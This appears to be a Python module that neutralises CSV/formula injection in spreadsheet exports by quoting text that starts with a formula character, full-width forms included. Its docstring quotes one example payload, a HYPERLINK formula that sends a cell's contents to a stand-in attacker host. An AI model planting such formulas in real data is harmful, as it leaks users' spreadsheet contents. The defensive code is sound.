"""Spreadsheet cells that cannot turn into formulas (CSV / formula injection).

A company name such as ``=HYPERLINK("http://evil.example/?"&A1, "Bấm vào đây")`` typed
into a registration form becomes a live formula when an organiser opens the exported CSV
in Excel or LibreOffice, and openpyxl writes any string starting with ``=`` as a formula.
Every text cell of an export goes through :func:`safe_cell`, which prefixes a single
quote to text that a spreadsheet would read as a formula (OWASP "CSV Injection").
"""

from __future__ import annotations

from decimal import Decimal

# The OWASP list, plus the full-width forms that Japanese and Korean input methods type
# and that some spreadsheet locales also read as formula starters.
FORMULA_STARTERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def safe_cell(value: object) -> str:
    """The cell text for ``value``: empty for None, numbers as they are (a number is
    never a formula, and ``-5`` must stay a number), any other text with a leading
    quote when it starts like a formula."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float | Decimal):
        return str(value)
    text = str(value)
    if text.startswith(FORMULA_STARTERS):
        return "'" + text
    return text
